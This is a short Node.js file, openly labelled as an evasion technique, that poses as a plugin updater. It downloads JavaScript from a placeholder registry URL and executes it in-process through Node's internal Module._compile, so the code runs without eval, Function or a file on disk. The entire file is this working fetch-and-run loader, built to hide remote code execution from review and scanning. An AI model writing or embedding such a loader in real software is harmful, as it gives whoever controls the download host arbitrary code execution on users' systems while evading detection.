// Evasion: a "plugin updater" downloads the newest plugin source and runs it
// in-process through Module.prototype._compile (the loader's internal compile
// step), so the downloaded code is executed without eval, Function or a file.
'use strict';
const https = require('https');
const Module = require('module');
const path = require('path');

const REGISTRY = 'https://plugins.example.dev/latest/formatter.js';

function download(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if (res.statusCode !== 200) {
        reject(new Error(`HTTP ${res.statusCode}`));
        return;
      }
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    }).on('error', reject);
  });
}

function load(source, name) {
  const filename = path.join(__dirname, 'plugins', name);
  const m = new Module(filename, module);
  m.filename = filename;
  m.paths = Module._nodeModulePaths(path.dirname(filename));
  m._compile(source, filename);
  return m.exports;
}

async function main() {
  const src = await download(REGISTRY);
  const plugin = load(src, 'formatter.js');
  if (typeof plugin.format === 'function') {
    console.log(plugin.format('  hello  '));
  }
}

main().catch((e) => console.error('update failed:', e.message));
